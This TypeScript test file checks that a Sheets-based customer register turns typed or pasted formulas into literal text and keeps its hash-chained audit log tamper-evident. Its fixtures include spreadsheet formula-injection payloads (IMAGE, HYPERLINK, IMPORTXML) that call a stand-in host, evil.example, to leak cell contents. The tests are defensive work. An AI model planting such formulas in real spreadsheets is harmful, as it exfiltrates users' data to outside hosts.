/**
 * Hand edits outside the register's own rows, through the emulator's public API (a person
 * typing, pasting, inserting and deleting rows and columns): no formula survives in any of the
 * register's tabs, the audit tab's layout is proven before each append, and the audit chain's
 * stored head never moves back, so a log cut short fails the chain check.
 */
import { decodeCell } from '../../src/gas/cells';
import * as path from 'node:path';
import { Emulator } from '../../src/emulator/app';
import { OWNER, STAFF } from '../../src/emulator/accounts';
import { AUDIT_TAB, columnKeysFromHeader } from '../../src/core/schema';
import { verifyChain, AuditEntry } from '../../src/core/audit';
import { sha256Hex } from '../../src/core/sha256';
import { buildSync } from 'esbuild';
import { scriptRuntime } from '../support/emulator';
import { call, demo, formulas } from '../support/register';


const EVIL = '=IMAGE("http://evil.example/leak.png?"&A2)';

/**
 * A cell as the register reads it: in a plain-text cell Sheets keeps the literal-text marker
 * (an apostrophe) as part of the text, and the register drops it on reading (gas/cells.ts).
 */
function cell(em: Emulator, sheet: string, row: number, column: number): unknown {
  const v = (em.world.spreadsheet.snapshot(sheet)!.values[row - 1] as unknown[] | undefined)?.[column - 1];
  return typeof v === 'string' && /^'[=']/.test(v) ? v.slice(1) : v;
}

/** The audit log as an auditor reads it: columns by their headers, empty rows skipped. */
function auditEntries(em: Emulator): AuditEntry[] {
  const [header, ...rows] = em.world.spreadsheet.snapshot('Lokitiedot')!.values as unknown[][];
  const keys = columnKeysFromHeader(AUDIT_TAB, header);
  return rows
    .filter((r) => r.some((v) => v !== ''))
    .map((r) => {
      const e: Record<string, string> = {};
      keys.forEach((k, i) => {
        // The register's own escape in plain-text cells (gas/cells.ts): dropped on reading.
        const v = String(r[i] ?? '');
        // Actions and field names are words in the tab; read back as codes as the register does (gas/cells.ts).
        if (k) e[k] = String(decodeCell('audit', k, /^'[=']/.test(v) ? v.slice(1) : v, 'UTC'));
      });
      return e as unknown as AuditEntry;
    });
}

function storedHead(em: Emulator): { count: number; hash: string; row?: number; columns?: number } {
  return JSON.parse(em.world.properties.document['rekisteri.auditHead']);
}

const toasts = (em: Emulator) => [...em.world.uiFor(OWNER).toasts, ...em.world.uiFor(STAFF).toasts].map((t) => JSON.stringify(t)).join(' ');

describe('formulas anywhere in the register\'s tabs become literal text', () => {
  test('a formula typed into the requests tab is kept as the text that was typed, and the editor is told', () => {
    const em = demo();
    const edit = em.editCell(STAFF, 'Pyynnöt', 2, 3, EVIL);
    expect(edit.ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Pyynnöt', 2, 3)).toBe(EVIL);
    expect(toasts(em)).toMatch(/kaavoja/);
  });

  test('a formula typed into a header cell of the register, right of its columns, becomes text', () => {
    const em = demo();
    const width = (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as unknown[]).length;
    em.sheetAction(OWNER, 'Rekisteri', { action: 'insertColumns', start: width + 1, count: 2 });
    em.editCell(OWNER, 'Rekisteri', 1, width + 1, '=1+1');
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Rekisteri', 1, width + 1)).toBe('=1+1');
  });

  test('a formula typed in a column added right of the register\'s block becomes text, the row stays as it was', () => {
    const em = demo();
    const width = (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as unknown[]).length;
    em.sheetAction(OWNER, 'Rekisteri', { action: 'insertColumns', start: width + 1, count: 1 });
    const before = call<{ customer: Record<string, unknown> }>(em, 'getCustomer', { customerNumber: '100003' }).customer;
    em.editCell(STAFF, 'Rekisteri', 4, width + 1, EVIL);
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Rekisteri', 4, width + 1)).toBe(EVIL);
    expect(call<{ customer: Record<string, unknown> }>(em, 'getCustomer', { customerNumber: '100003' }).customer).toEqual(before);
  });

  test('a block pasted right of the register\'s block keeps its text and loses its formulas', () => {
    const em = demo();
    const width = (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as unknown[]).length;
    em.sheetAction(OWNER, 'Rekisteri', { action: 'insertColumns', start: width + 1, count: 2 });
    const block = [['=1+1', 'muistiinpano'], ['+358401234567', EVIL], ['00100', '=SUM(A:A)'], ['1.2.2025', '@x'], ["'lainattu", '=2*3']];
    expect(em.pasteCells(STAFF, 'Rekisteri', 10, width + 1, block).ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Rekisteri', 10, width + 1)).toBe('=1+1');
    expect(cell(em, 'Rekisteri', 10, width + 2)).toBe('muistiinpano');
    expect(cell(em, 'Rekisteri', 11, width + 2)).toBe(EVIL);
    expect(cell(em, 'Rekisteri', 12, width + 2)).toBe('=SUM(A:A)');
    expect(cell(em, 'Rekisteri', 14, width + 2)).toBe('=2*3');
  });

  test('a paste of 700 rows into the register loses every formula, the ones below row 500 of the paste too', () => {
    const em = demo();
    const name = (em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[]).indexOf('Nimi') + 1;
    const block = Array.from({ length: 700 }, (_, i) => [i === 10 || i === 650 || i === 699 ? EVIL : '']);
    expect(em.pasteCells(STAFF, 'Rekisteri', 250, name, block).ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Rekisteri', 250 + 650, name)).toBe(EVIL);
    expect(cell(em, 'Rekisteri', 250 + 699, name)).toBe(EVIL);
  });

  test('a paste into the disclosures tab keeps its text, loses its formulas and is logged', () => {
    const em = demo();
    const block = [['D-x', '=TODAY()', '100001', EVIL], ['D-y', '2026-01-01', '=A1', '=HYPERLINK("http://evil.example")']];
    expect(em.pasteCells(STAFF, 'Luovutukset', 5, 1, block).ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    expect(cell(em, 'Luovutukset', 5, 4)).toBe(EVIL);
    expect(cell(em, 'Luovutukset', 6, 3)).toBe('=A1');
    expect(auditEntries(em).pop()).toMatchObject({ action: 'manual-edit', actor: STAFF, fields: 'disclosures' });
  });

  test('a paste into the audit tab loses its formulas, is logged, and the chain check shows the change', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    call(em, 'exportMarketingList', {});
    expect(em.pasteCells(STAFF, 'Lokitiedot', 2, 2, [['=1+1', EVIL, '=A1', '=B1']]).ok).toBe(true);
    expect(formulas(em)).toEqual([]);
    const entries = auditEntries(em);
    expect(entries[0].actor).toBe('=1+1');
    expect(entries[entries.length - 1]).toMatchObject({ action: 'manual-edit', fields: 'auditLog' });
    expect(verifyChain(entries, sha256Hex)).toMatchObject({ ok: false, index: 0 });
  });

  test('a formula typed into one audit cell is undone, the chain stays whole', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    const before = auditEntries(em)[0];
    em.editCell(STAFF, 'Lokitiedot', 2, 3, '=IMPORTXML("http://evil.example","//a")');
    expect(formulas(em)).toEqual([]);
    expect(auditEntries(em)[0]).toEqual(before);
    expect(verifyChain(auditEntries(em), sha256Hex, storedHead(em).hash)).toEqual({ ok: true });
  });

  test('a formula typed into a sheet that is not one of the register\'s is left alone', () => {
    const em = demo();
    const added = em.runScript(`SpreadsheetApp.getActiveSpreadsheet().insertSheet('Omat muistiinpanot');`, OWNER);
    expect(added.ok).toBe(true);
    em.editCell(OWNER, 'Omat muistiinpanot', 1, 1, '=1+1');
    expect(formulas(em)).toEqual([{ sheet: 'Omat muistiinpanot', row: 1, column: 1, formula: '=1+1' }]);
  });
});

describe('the audit tab\'s layout is proven before each append', () => {
  test('after a column is inserted in the audit tab, new entries land under their own headers and the chain stays valid', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    expect(em.sheetAction(OWNER, 'Lokitiedot', { action: 'insertColumns', start: 3, count: 1 }).ok).toBe(true);
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    call(em, 'saveCustomer', { customer: { customerNumber: '100001', city: 'Oulu' }, expectedVersion: customer.version });
    call(em, 'banMarketing', { customerNumber: '100002' });
    const entries = auditEntries(em);
    expect(entries.slice(-2)).toEqual([
      expect.objectContaining({ action: 'update', customerNumber: '100001', fields: 'city', actor: STAFF }),
      expect.objectContaining({ action: 'ban-marketing', customerNumber: '100002', actor: STAFF }),
    ]);
    // Nothing was written into the inserted column.
    const rows = em.world.spreadsheet.snapshot('Lokitiedot')!.values as unknown[][];
    expect(rows.slice(1).map((r) => r[2]).filter((v) => v !== '')).toEqual([]);
    expect(verifyChain(entries, sha256Hex, storedHead(em).hash)).toEqual({ ok: true });
  });

  test('a column inserted right of the audit log\'s columns changes nothing in the entries', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'insertColumns', start: 10, count: 3 });
    call(em, 'banMarketing', { customerNumber: '100002' });
    expect(auditEntries(em).pop()).toMatchObject({ action: 'ban-marketing', customerNumber: '100002' });
    expect(verifyChain(auditEntries(em), sha256Hex, storedHead(em).hash)).toEqual({ ok: true });
  });

  test('the save after an inserted audit column costs the proof once; the next save is back to its ten calls', () => {
    const em = demo();
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'insertColumns', start: 2, count: 1 });
    const save = (city: string) => {
      const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
      return em.callFromClient('saveCustomer', [{ customer: { customerNumber: '100001', city }, expectedVersion: customer.version }], STAFF);
    };
    expect(save('Oulu').ok).toBe(true);
    const next = save('Turku');
    expect(next.ok).toBe(true);
    // Eight, and the invariant store's read and write.
    expect(next.calls).toBeLessThanOrEqual(10);
  });

  test('a deleted audit column stops every write with a message naming it, and nothing is written', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteColumns', start: 4, count: 1 });
    const register = JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri'));
    const report = em.callFromClient('banMarketing', [{ customerNumber: '100002' }], STAFF);
    expect(report.ok).toBe(false);
    expect(report.error!.message).toMatch(/Lokitiedot/);
    expect(report.error!.message).toMatch(/Asiakasnumero/);
    expect(JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri'))).toBe(register);
  });
});

describe('the audit chain\'s stored head never moves backwards', () => {
  test('deleting the last entries with the empty rows below them fails the chain check', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    call(em, 'banMarketing', { customerNumber: '100001' });
    call(em, 'banMarketing', { customerNumber: '100002' });
    const head = storedHead(em);
    const count = auditEntries(em).length;
    const maxRows = em.world.spreadsheet.snapshot('Lokitiedot')!.maxRows;
    // Cut the last two entries and every spare row under them.
    expect(em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteRows', start: count, count: maxRows - count + 1 }).ok).toBe(true);
    expect(auditEntries(em)).toHaveLength(count - 2);
    call(em, 'exportMarketingList', {});
    const after = storedHead(em);
    expect(after.count).toBe(head.count + 1);
    const entries = auditEntries(em);
    expect(entries[entries.length - 1].prevHash).toBe(head.hash);
    expect(verifyChain(entries, sha256Hex, after.hash)).toMatchObject({ ok: false, index: count - 2, reason: 'broken-link' });
  });

  test('set-up after a cut keeps the head, so the cut stays visible', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    call(em, 'banMarketing', { customerNumber: '100001' });
    const head = storedHead(em);
    const count = auditEntries(em).length;
    const maxRows = em.world.spreadsheet.snapshot('Lokitiedot')!.maxRows;
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteRows', start: count + 1, count: maxRows - count });
    call(em, 'setUp', {}, OWNER);
    expect(storedHead(em)).toMatchObject({ count: head.count, hash: head.hash });
    expect(verifyChain(auditEntries(em), sha256Hex, storedHead(em).hash)).toMatchObject({ ok: false, reason: 'head-mismatch' });
  });

  test('rows deleted from inside the log: the next entry chains to the stored head, nothing is written over, the chain check shows the deletion', () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    call(em, 'exportMarketingList', {});
    call(em, 'exportMarketingList', {});
    const before = auditEntries(em);
    const head = storedHead(em);
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'deleteRows', start: 3, count: 1 });
    call(em, 'banMarketing', { customerNumber: '100002' });
    const entries = auditEntries(em);
    expect(entries).toEqual([before[0], ...before.slice(2), expect.objectContaining({ action: 'ban-marketing', prevHash: head.hash })]);
    expect(verifyChain(entries, sha256Hex, storedHead(em).hash)).toMatchObject({ ok: false, index: 1, reason: 'broken-link' });
  });
});

describe('literaliseFormulas, the adapter the repair pass runs over every tab', () => {
  // The adapter alone, bundled as Apps Script would load it, run in the demo world's runtime.
  const adapter = buildSync({ entryPoints: [path.resolve(__dirname, '../../src/gas/formulas.ts')], bundle: true, format: 'iife', globalName: 'Formulas', write: false, target: 'es2020' }).outputFiles[0].text;
  const run = (em: Emulator, body: string) => {
    const report = scriptRuntime(`${adapter}\nfunction test() {\n${body}\n}`, em.world).execute('test', [], { user: OWNER });
    if (!report.ok) throw new Error(report.error!.message);
    return report;
  };

  test('formulas a failed trigger left anywhere in a tab become text in one read and one write, the other cells stay exactly as they were', () => {
    const em = demo();
    // Written by a script, so no trigger runs: as when the trigger failed or was busy.
    run(em, `var s = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri');
      s.getRange(3, 4).setValue('${EVIL.replace(/'/g, "\\'")}');
      s.getRange(150, 12).setValue('=1+1'); s.getRange(199, 2).setValue('=A1'); s.getRange(1, 20).setValue('=SUM(A:A)');`);
    const before = em.world.spreadsheet.snapshot('Rekisteri')!.values as unknown[][];
    expect(formulas(em, 'Rekisteri')).toHaveLength(4);
    const report = run(em, `return Formulas.literaliseFormulas(SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri'));`);
    expect(report.value).toEqual({ count: 4, rows: [1, 3, 150, 199] });
    expect(formulas(em)).toEqual([]);
    const after = em.world.spreadsheet.snapshot('Rekisteri')!.values as unknown[][];
    expect(cell(em, 'Rekisteri', 3, 4)).toBe(EVIL);
    expect(cell(em, 'Rekisteri', 150, 12)).toBe('=1+1');
    // Every other cell, in every row between, unchanged (leading zeros, phone numbers, dates as text).
    const differing = after.flatMap((r, i) => r.map((v, j) => [i, j, v] as const)).filter(([i, j, v]) => v !== before[i][j]);
    expect(differing.map(([i, j]) => `${i + 1}:${j + 1}`)).toEqual(['1:20', '3:4', '150:12', '199:2']);
    // getSheetByName (the caller's), then getDataRange, getFormulas, getValues, getNumberFormats and one setValues.
    expect(report.calls).toBe(6);
  });

  test('a tab without formulas costs two reads and no write', () => {
    const em = demo();
    const report = run(em, `return Formulas.literaliseFormulas(SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Rekisteri'));`);
    expect(report.value).toEqual({ count: 0, rows: [] });
    // getSheetByName (the caller's), getDataRange, getFormulas.
    expect(report.calls).toBe(3);
  });
});

describe('an append that must prove the audit tab, with a fault at each of its calls', () => {
  const save = (em: Emulator, city: string, fault?: number) => {
    const { customer } = call<{ customer: { version: number } }>(em, 'getCustomer', { customerNumber: '100001' });
    if (fault) em.world.injectFault({ atCall: fault });
    return em.callFromClient('saveCustomer', [{ customer: { customerNumber: '100001', city }, expectedVersion: customer.version }], STAFF);
  };
  const world = () => {
    const em = demo();
    call(em, 'exportMarketingList', {});
    em.sheetAction(OWNER, 'Lokitiedot', { action: 'insertColumns', start: 2, count: 1 });
    return em;
  };
  const calls = save(world(), 'Oulu').calls;

  test.each(Array.from({ length: calls }, (_, i) => i + 1))('fault at call %i: the retry lands under the right headers and the chain to the head is valid', (n) => {
    const em = world();
    expect(save(em, 'Oulu', n).ok).toBe(false);
    expect(save(em, 'Oulu').ok).toBe(true);
    const head = storedHead(em);
    const entries = auditEntries(em).slice(0, head.count);
    expect(entries.filter((e) => e.action === 'update' && e.fields === 'city').length).toBeGreaterThanOrEqual(1);
    expect(entries.every((e) => e.actor === '' || /@/.test(e.actor))).toBe(true);
    expect(verifyChain(entries, sha256Hex, head.hash)).toEqual({ ok: true });
  });
});
